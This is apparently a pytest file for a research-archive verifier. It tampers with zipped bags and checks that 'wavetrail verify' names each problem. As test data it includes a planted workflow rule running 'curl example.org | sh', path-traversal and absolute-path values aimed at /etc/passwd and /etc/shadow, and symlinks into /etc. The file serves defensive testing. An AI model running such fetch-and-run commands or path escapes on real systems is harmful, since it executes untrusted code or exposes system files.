"""Hostile archives: verify validates what it reads, never leaves the payload, never crashes.

Each test unpacks a good archive, changes it the way an attacker (or a careless
author) would, *re-forges* the manifests so that the bag itself stays valid
where that is the point, packs it again by hand with zipfile, and checks that
``wavetrail verify`` exits non-zero with a finding that names the problem and
prints no traceback.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import zipfile
from pathlib import Path

import pytest

from test_archive_helpers import make_project
from wavetrail.archive import pack_project, verify_archive
from wavetrail.archive.schema import PathProblem, payload_file
from wavetrail.cli import main

TOP = "proj-include"


@pytest.fixture(scope="module")
def good(tmp_path_factory):
    root = make_project(tmp_path_factory.mktemp("hostile") / "proj", n=120, email=False)
    return pack_project(root, raw="include", output=root.parent / "good.zip")


def _members(archive: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(archive) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def reforge(members: dict[str, bytes], tags: bool = True) -> None:
    """Recompute the payload manifest, Payload-Oxum and the tag manifest, as an attacker would."""
    payload = {n[len(TOP) + 1:]: d for n, d in members.items() if n.startswith(f"{TOP}/data/")}
    members[f"{TOP}/manifest-sha256.txt"] = "".join(
        f"{_sha(d)}  {rel}\n" for rel, d in sorted(payload.items())).encode()
    info = members[f"{TOP}/bag-info.txt"]
    oxum = f"Payload-Oxum: {sum(len(d) for d in payload.values())}.{len(payload)}".encode()
    members[f"{TOP}/bag-info.txt"] = re.sub(rb"Payload-Oxum: \d+\.\d+", oxum, info)
    if tags and f"{TOP}/tagmanifest-sha256.txt" in members:
        top = {n[len(TOP) + 1:]: d for n, d in members.items()
               if "/" not in n[len(TOP) + 1:] and not n.endswith("tagmanifest-sha256.txt")}
        members[f"{TOP}/tagmanifest-sha256.txt"] = "".join(
            f"{_sha(d)} {rel}\n" for rel, d in sorted(top.items())).encode()


def _write(members: dict[str, bytes], path: Path) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name in sorted(members):
            zf.writestr(name, members[name])
    return path


def _edit_record(members, name: str, change) -> None:
    key = f"{TOP}/data/results/ledger/{name}.json"
    rec = json.loads(members[key])
    change(rec)
    members[key] = json.dumps(rec).encode()


def _verify_cli(path: Path, capsys) -> tuple[int, str]:
    code = main(["verify", str(path)])
    out = capsys.readouterr()
    text = out.out + out.err
    assert "Traceback" not in text
    return code, text


def _failures(report) -> str:
    bad = report.table[report.table["status"] == "fail"]
    return "\n".join(bad["check"] + " | " + bad["target"] + " | " + bad["detail"])


def test_the_good_archive_verifies(good, capsys):
    code, text = _verify_cli(good, capsys)
    assert code == 0, text
    report = verify_archive(good)
    row = report.table[(report.table["check"] == "bag") & (report.table["target"] == "bag-info.txt")].iloc[0]
    assert row["status"] == "ok" and "agree with the archive's own description" in row["detail"]


def test_absolute_output_path_is_never_read(good, tmp_path, capsys):
    """An output /etc/hostname carrying the reviewer's own hash must not count as a match."""
    host = Path("/etc/hostname")
    own = _sha(host.read_bytes()) if host.is_file() else "0" * 64
    m = _members(good)
    _edit_record(m, "score_scales", lambda r: r["outputs"].append({"path": "/etc/hostname", "sha256": own,
                                                                    "size": 1}))
    reforge(m)
    path = _write(m, tmp_path / "abs.zip")
    report = verify_archive(path)
    assert not report.ok
    fails = _failures(report)
    assert "'/etc/hostname': absolute path" in fails
    assert "outputs match" not in fails
    code, text = _verify_cli(path, capsys)
    assert code == 1


def test_climbing_input_path_leaks_no_hash(good, tmp_path, capsys):
    target = "../../../../etc/passwd"
    real = _sha(Path("/etc/passwd").read_bytes()) if Path("/etc/passwd").is_file() else None
    m = _members(good)
    _edit_record(m, "score_scales", lambda r: r["inputs"].append({"path": target, "sha256": "1" * 64}))
    reforge(m)
    path = _write(m, tmp_path / "climb.zip")
    code, text = _verify_cli(path, capsys)
    assert code == 1
    assert "'..' in the path" in text
    if real:
        assert real[:6] not in text and real[:12] not in json.dumps(verify_archive(path).to_dict())


@pytest.mark.parametrize("change, expected", [
    (lambda r: r["outputs"][0].pop("sha256"), "outputs/0: 'sha256' is a required property"),
    (lambda r: r.__setitem__("outputs", "results/scores/scores.csv"), "outputs: 'results/scores/scores.csv' is not of type 'array'"),
    (lambda r: r.__setitem__("inputs", [{"path": 5, "sha256": "x"}]), "inputs/0/path: 5 is not of type 'string'"),
    (lambda r: r.__setitem__("wildcards", ["a"]), "wildcards: ['a'] is not of type 'object'"),
])
def test_malformed_ledger_records_are_named_findings(good, tmp_path, capsys, change, expected):
    m = _members(good)
    _edit_record(m, "score_scales", change)
    reforge(m)
    path = _write(m, tmp_path / "bad-record.zip")
    code, text = _verify_cli(path, capsys)
    assert code == 1
    report = verify_archive(path)
    assert "results/ledger/score_scales.json: " + expected in _failures(report)


@pytest.mark.parametrize("key, value, expected", [
    ("state", "clean", "state: 'clean' is not of type 'object'"),
    ("withheld", ["data/raw/panel.csv"], "withheld: ['data/raw/panel.csv'] is not of type 'object'"),
    ("commit", 12345, "commit: 12345 is not of type 'string'"),
    ("mode", "everything", "mode: 'everything' is not one of"),
    ("registry", {"data/raw/panel.csv": 7}, "registry/data/raw/panel.csv: 7 is not of type 'string'"),
])
def test_malformed_archive_description_is_a_named_finding(good, tmp_path, capsys, key, value, expected):
    m = _members(good)
    name = f"{TOP}/data/wavetrail-archive.json"
    desc = json.loads(m[name])
    desc[key] = value
    m[name] = json.dumps(desc).encode()
    reforge(m)
    path = _write(m, tmp_path / "bad-desc.zip")
    code, text = _verify_cli(path, capsys)
    assert code == 1
    assert expected in _failures(verify_archive(path))


def test_registry_path_outside_the_payload_is_refused(good, tmp_path):
    m = _members(good)
    name = f"{TOP}/data/wavetrail-archive.json"
    desc = json.loads(m[name])
    desc["withheld"]["/etc/shadow"] = {"sha256": "2" * 64, "reason": "x"}
    m[name] = json.dumps(desc).encode()
    reforge(m)
    report = verify_archive(_write(m, tmp_path / "w.zip"))
    assert not report.ok and "'/etc/shadow': absolute path" in _failures(report)


def test_bag_info_not_utf8(good, tmp_path, capsys):
    m = _members(good)
    m[f"{TOP}/bag-info.txt"] = m[f"{TOP}/bag-info.txt"] + b"Contact-Name: M\xfcller\n"
    reforge(m)
    code, text = _verify_cli(_write(m, tmp_path / "latin1.zip"), capsys)
    assert code == 1
    assert "bag-info.txt" in text and "not UTF-8" in text


def test_extra_file_at_the_bag_top_fails(good, tmp_path, capsys):
    m = _members(good)
    m[f"{TOP}/notes.txt"] = b"added later\n"
    code, text = _verify_cli(_write(m, tmp_path / "top.zip"), capsys)
    assert code == 1 and f"{TOP}/notes.txt: in the archive but listed in no manifest" in text
    m = _members(good)
    m[f"{TOP}/extra/deep/file.txt"] = b"added later\n"
    report = verify_archive(_write(m, tmp_path / "deep.zip"))
    assert f"{TOP}/extra/deep/file.txt" in _failures(report)


def test_deleted_tag_manifest_fails_even_with_edited_bag_info(good, tmp_path, capsys):
    m = _members(good)
    del m[f"{TOP}/tagmanifest-sha256.txt"]
    m[f"{TOP}/bag-info.txt"] = m[f"{TOP}/bag-info.txt"].replace(b"Raw-Data-Mode: include",
                                                                b"Raw-Data-Mode: exclude")
    code, text = _verify_cli(_write(m, tmp_path / "notag.zip"), capsys)
    assert code == 1 and "no sha256 tag manifest" in text


def test_edited_commit_in_bag_info_is_compared_with_the_archive_record(good, tmp_path, capsys):
    m = _members(good)
    info = m[f"{TOP}/bag-info.txt"].decode()
    commit = re.search(r"Project-Commit: (\w+)", info).group(1)
    m[f"{TOP}/bag-info.txt"] = info.replace(f"Project-Commit: {commit}", "Project-Commit: " + "a" * 40).encode()
    reforge(m)  # the tag manifest is forged to match, so only the cross-check can catch it
    path = _write(m, tmp_path / "commit.zip")
    code, text = _verify_cli(path, capsys)
    assert code == 1
    assert "Project-Commit 'aaaaaaaaaa" in _failures(verify_archive(path))


def test_planted_rule_module_and_changed_script_are_listed(good, tmp_path, capsys):
    m = _members(good)
    m[f"{TOP}/data/workflow/rules/extra.smk"] = b"rule sneak:\n    shell: 'curl example.org | sh'\n"
    m[f"{TOP}/data/tools/helper.py"] = b"import os\n"
    reforge(m)
    path = _write(m, tmp_path / "planted.zip")
    report = verify_archive(path)
    rows = report.table[report.table["check"] == "code"]
    added = rows[rows["target"] == "workflow/rules/extra.smk"].iloc[0]
    assert added["status"] == "warn" and added["detail"].startswith("added: new file, 2 lines")
    assert "curl example.org" in added["detail"]
    assert (rows["target"] == "tools/helper.py").any()
    assert "workflow/rules/extra.smk" in report.summary and "read them before --rebuild" in report.summary
    code, text = _verify_cli(path, capsys)
    assert "workflow/rules/extra.smk" in text


def test_stock_workflow_of_a_new_project_is_stock(tmp_path, no_git_identity):
    from wavetrail.archive.code import compare_workflow
    from wavetrail.project import new_project

    root = new_project(tmp_path / "fresh", title="Fresh")
    report = compare_workflow(root)
    assert report.stock, [(c.path, c.change, c.summary) for c in report.changes]
    (root / "workflow/rules/scripts/run_step.py").write_text("import os\nos.remove('results/x')\n")
    report = compare_workflow(root)
    changed = {c.path: c for c in report.changes}
    assert changed["workflow/rules/scripts/run_step.py"].change == "changed"
    assert "+ os.remove('results/x')" in changed["workflow/rules/scripts/run_step.py"].summary


def test_payload_file_refuses_links_devices_and_escapes(tmp_path):
    payload = tmp_path / "payload"
    (payload / "sub").mkdir(parents=True)
    (payload / "sub/ok.txt").write_text("x")
    os.symlink("/etc", payload / "link")
    os.symlink("/etc/hostname", payload / "sub/file-link")
    os.mkfifo(payload / "pipe")
    assert payload_file(payload, "sub/ok.txt") == payload / "sub/ok.txt"
    assert payload_file(payload, "sub/none.txt") is None
    for rel, why in [("link/passwd", "passes through a link"), ("sub/file-link", "passes through a link"),
                     ("pipe", "not a regular file"), ("/etc/passwd", "absolute path"),
                     ("sub/../../x", "'..' in the path"), ("C:/x", "absolute path"), ("a\\b", "backslash"),
                     ("", "not a path")]:
        with pytest.raises(PathProblem, match=re.escape(why)):
            payload_file(payload, rel)
